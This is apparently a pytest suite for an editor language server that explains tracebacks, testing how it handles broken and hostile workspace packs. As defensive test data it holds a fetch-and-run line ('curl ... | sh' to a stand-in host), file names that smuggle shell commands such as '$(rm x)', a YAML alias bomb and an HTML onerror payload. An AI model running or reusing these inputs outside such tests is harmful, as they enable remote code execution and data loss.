"""Packs of a workspace, broken and hostile, and hostile texts, as an editor sees them through the real server."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from raw import RawClient

DATA = Path(__file__).parents[1] / "data"
RUN = "tracemend.client.runInTerminal"
CARD = "tracemend.client.showCard"
HOSTILE_NAME = "builtin (workspace)"
START = """\
import subprocess

NAME = {name!r}
open(NAME, "w").close()
subprocess.run([NAME])
"""
"""Starts a file that may not be executed, which is refused whoever runs it."""

posix = pytest.mark.skipif(sys.platform == "win32", reason="needs modes of files")


def options(**more: Any) -> dict[str, Any]:
    """What a client says that can do all, and trusts the workspace."""
    return {"trusted": True, "commands": [RUN, CARD], "shell": "bash", "interpreter": sys.executable, **more}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """An empty workspace."""
    folder = tmp_path.resolve() / "shop"
    folder.mkdir()
    return folder


def with_pack(root: Path, name: str) -> Path:
    """The workspace with a copy of a folder of the test data as its pack."""
    shutil.copytree(DATA / name, root / ".tracemend")
    return root


def started(raw: RawClient, root: Path, *, name: str = "./deploy.sh", **more: Any) -> tuple[str, dict[str, Any]]:
    """Run a program that starts the file `name`, and tell the server; the program's URI and what is published."""
    program = root / "go.py"
    program.write_text(START.format(name=name), encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "go.py"], cwd=root, capture_output=True, text=True, env={"PATH": str(root), "PYTHONUTF8": "1"}
    )
    assert "PermissionError" in done.stderr, done.stderr
    raw.initialize(root, options(**more))
    raw.open(program.as_uri(), program.read_text(encoding="utf-8"))
    raw.printed(root, done.stderr, command="python go.py")
    (diagnostic,) = raw.diagnostics(program.as_uri())
    return program.as_uri(), diagnostic


def hover(raw: RawClient, uri: str, diagnostic: dict[str, Any]) -> str:
    """The hover on a diagnostic."""
    where = {"textDocument": {"uri": uri}, "position": diagnostic["range"]["start"]}
    return str(raw.request("textDocument/hover", where)["result"]["contents"]["value"])


def actions(raw: RawClient, uri: str, diagnostic: dict[str, Any]) -> list[dict[str, Any]]:
    """The code actions on a diagnostic."""
    context = {"textDocument": {"uri": uri}, "range": diagnostic["range"], "context": {"diagnostics": [diagnostic]}}
    return list(raw.request("textDocument/codeAction", context)["result"])


def command(raw: RawClient, name: str, argument: dict[str, Any]) -> dict[str, Any]:
    """What a command answers."""
    return dict(raw.request("workspace/executeCommand", {"command": name, "arguments": [argument]})["result"])


def explained(raw: RawClient, text: str) -> dict[str, Any]:
    """What the last error of a text is explained as."""
    return dict(command(raw, "tracemend.diagnoseText", {"text": text})["diagnoses"][-1])


def told(raw: RawClient, wanted: str) -> str:
    """What the server has logged, as soon as `wanted` stands in it."""
    end = time.monotonic() + 10
    while time.monotonic() < end:
        if wanted in (text := raw.errors.decode()):
            return text
        time.sleep(0.02)  # a log of another process is read again
    raise AssertionError(raw.errors.decode())


def peak(raw: RawClient) -> int:
    """The most memory that the server has had, in KB."""
    status = Path(f"/proc/{raw.process.pid}/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0])


def test_broken_files_are_told_and_the_rest_serves(raw: RawClient, root: Path) -> None:
    raw.initialize(with_pack(root, "broken-pack"), options())
    assert explained(raw, "ValueError: something very wrong")["pack"] == "Broken things"
    builtin = explained(raw, "FileNotFoundError: [Errno 2] No such file or directory: 'a.csv'")
    assert builtin["entry"] == "python.os.file-not-found"
    assert "pack" not in builtin
    log = told(raw, "cause-without-text.yaml:")
    for file in sorted((root / ".tracemend" / "broken").iterdir()):
        assert re.search(rf"{re.escape(str(file))}:\d+: \S.*[.?\"`]$", log, re.MULTILINE), f"{file.name}: {log}"
    assert "Traceback" not in log
    assert not [sent for sent in raw.messages if sent.get("method") == "window/showMessage"]


def test_a_pattern_that_would_hang_is_refused(raw: RawClient, root: Path) -> None:
    raw.initialize(with_pack(root, "hostile-pack"), options())
    explained(raw, "ValueError: warm")
    log = told(raw, "newline-in-command.yaml:")
    for name in ("hangs", "hangs-slowly", "hangs-on-the-command"):
        assert re.search(rf"{name}\.yaml:\d+: .*the pattern is refused", log)
    for killer in ("a" * 1900, "very wrong at " * 130, "very" * 500):
        began = time.monotonic()
        found = explained(raw, f"$ run {'x ' * 900}\nValueError: {killer}")
        assert time.monotonic() - began < 1
        assert "pack" not in found


def test_a_bomb_is_refused_in_bounded_time_and_memory(raw: RawClient, root: Path) -> None:
    bomb = with_pack(root, "hostile-pack") / ".tracemend" / "hostile" / "bomb.yaml"
    lines = bomb.read_text().splitlines()
    nested = root / ".tracemend" / "hostile" / "nested.yaml"
    nested.write_text("[" * 200_000)
    bomb.write_text("\n".join([*lines, *(f"j{n}: &j{n} [{'*i, ' * 20}x]" for n in range(2000))]))
    began = time.monotonic()
    raw.initialize(root, options())
    explained(raw, "ValueError: warm")
    assert time.monotonic() - began < 10
    log = told(raw, "newline-in-command.yaml:")
    assert "bomb.yaml:1: " in log
    assert "nested.yaml:1: " in log
    if sys.platform == "linux":
        assert peak(raw) < 200_000


def test_a_command_with_a_control_character_is_refused(raw: RawClient, root: Path) -> None:
    raw.initialize(with_pack(root, "hostile-pack"), options())
    found = explained(raw, "ValueError: something very wrong")
    assert "pack" not in found
    log = told(raw, "newline-in-command.yaml:")
    assert re.search(r"newline-in-command\.yaml:10: .*holds a control character", log)
    assert re.search(r"escape-in-command\.yaml:10: .*holds a control character", log)


@posix
def test_an_entry_in_place_of_a_built_in_one_says_whose_it_is(raw: RawClient, root: Path) -> None:
    uri, diagnostic = started(raw, with_pack(root, "hostile-pack"))
    assert diagnostic["code"] == "python.os.permission-denied"
    assert HOSTILE_NAME in hover(raw, uri, diagnostic)
    answer = command(raw, "tracemend.card", {"id": diagnostic["data"]["id"]})
    assert HOSTILE_NAME in answer["markdown"]
    assert answer["diagnoses"][0]["pack"] == HOSTILE_NAME


@posix
def test_the_diagnostic_says_whose_it_is(raw: RawClient, root: Path) -> None:
    _, diagnostic = started(raw, with_pack(root, "hostile-pack"))
    assert HOSTILE_NAME in diagnostic["message"]


@posix
def test_commands_of_a_pack_are_shown_only(raw: RawClient, root: Path) -> None:
    uri, diagnostic = started(raw, with_pack(root, "hostile-pack"), commandLinks=True)
    (mend,) = (one for one in actions(raw, uri, diagnostic) if (one.get("data") or {}).get("fix") == "mend")
    assert mend["command"]["command"] == "tracemend.showCommand"
    assert "curl" not in str(mend)
    assert RUN not in hover(raw, uri, diagnostic)
    card = command(raw, "tracemend.card", {"id": diagnostic["data"]["id"]})["markdown"]
    assert "Shown only" in card
    assert RUN not in card
    shown = command(raw, "tracemend.showCommand", mend["command"]["arguments"][0])["markdown"]
    assert "```sh\nsh -c 'curl -s https://example.invalid/x | sh'\n```" in shown


@posix
@pytest.mark.parametrize("allowed", [HOSTILE_NAME, "builtin", "shop", ""])
def test_commands_of_a_pack_run_once_the_user_allows_it_by_its_name(raw: RawClient, root: Path, allowed: str) -> None:
    uri, diagnostic = started(raw, with_pack(root, "hostile-pack"), settings={"allowedPacks": [allowed]})
    (mend,) = (one for one in actions(raw, uri, diagnostic) if (one.get("data") or {}).get("fix") == "mend")
    assert (mend["command"]["command"] == RUN) == (allowed == HOSTILE_NAME)


@pytest.mark.parametrize("said", [{}, {"trusted": False}, {"trusted": "yes"}])
def test_the_pack_of_a_workspace_that_is_not_trusted_is_not_loaded(
    raw: RawClient, root: Path, said: dict[str, Any]
) -> None:
    raw.initialize(with_pack(root, "broken-pack"), {"commands": [RUN], **said})
    found = explained(raw, "ValueError: something very wrong")
    assert found["entry"] == "python.general.value-error"
    assert "pack" not in found
    assert b".tracemend" not in raw.errors


def test_trust_that_comes_later_loads_the_pack(raw: RawClient, root: Path) -> None:
    raw.initialize(with_pack(root, "broken-pack"), {"trusted": False})
    assert "pack" not in explained(raw, "ValueError: something very wrong")
    raw.notify("workspace/didChangeConfiguration", {"settings": {"tracemend": {"trusted": True}}})
    assert explained(raw, "ValueError: something very wrong")["pack"] == "Broken things"


@posix
@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("./$(rm x)`id`.sh", "'./$(rm x)`id`.sh'"),
        ("./it's; rm x.sh", "'./it'\"'\"'s; rm x.sh'"),
        ("./a && rm x\\.sh", "'./a && rm x\\.sh'"),
        ("-rf", "-rf"),
        ("./a\nrm x.sh", None),
        ("./\x1b[2Kx.sh", None),
        ("./a\u202ehs.sh", None),
    ],
)
def test_a_path_is_one_word_or_none(raw: RawClient, root: Path, name: str, words: str | None) -> None:
    uri, diagnostic = started(raw, root, name=name)
    offered = [one for one in actions(raw, uri, diagnostic) if (one.get("data") or {}).get("fix") == "make-executable"]
    if words is None:
        assert not offered
        return
    (action,) = offered
    assert action["command"]["command"] == RUN
    (given,) = action["command"]["arguments"]
    assert given["text"] == f"chmod u+x -- {words}"
    done = subprocess.run(["bash", "-c", given["text"]], cwd=root, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "")
    assert (root / name).stat().st_mode & 0o100


MARKUP = "<img src=x onerror=a()> [press](command:x) ![p](http://a.invalid/p) **b** `c` https://a.invalid/z &lt;"
ACTIVE = re.compile(r"(?<![\\\w])<[a-z/]|(?<!\\)\[[^\]]*\]\((?!file:)|(?<!\\)(?<!\w)https?://", re.IGNORECASE)


def outside_code(markdown: str) -> str:
    """Markdown without its code blocks, its inline code, and the entry's own sources."""
    text = re.sub(r"^(`{3,})[^\n]*\n.*?\n\1$", "", markdown, flags=re.DOTALL | re.MULTILINE)
    text = text.partition("## Sources")[0]
    return re.sub(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)", "", text)


@pytest.mark.parametrize(
    "error",
    [
        f"KeyError: {MARKUP!r}",
        f"FileNotFoundError: [Errno 2] No such file or directory: {MARKUP!r}",
        f"ValueError: {MARKUP}",
        f"ModuleNotFoundError: No module named {MARKUP!r}",
        f"NoSuchError: {MARKUP}\n{MARKUP}",
        f"NameError: name '{MARKUP}' is not defined",
    ],
)
def test_markup_of_a_text_stays_text(raw: RawClient, root: Path, error: str) -> None:
    program = root / "app.py"
    program.write_text("fail()\n", encoding="utf-8")
    raw.initialize(root, options(commandLinks=True))
    raw.open(program.as_uri(), "fail()\n")
    printed = f'Traceback (most recent call last):\n  File "app.py", line 1, in {MARKUP}\n    fail()\n{error}\n'
    raw.printed(root, printed)
    (diagnostic,) = raw.diagnostics(program.as_uri())
    shown = [
        command(raw, "tracemend.card", {"id": diagnostic["data"]["id"]})["markdown"],
        command(raw, "tracemend.diagnoseText", {"text": printed})["markdown"],
        re.sub(r"\[[^\]]*\]\(command:tracemend\.\S*\)", "", hover(raw, program.as_uri(), diagnostic)),
    ]
    for text in shown:
        assert "img src" in text
        assert not ACTIVE.search(outside_code(text)), outside_code(text)
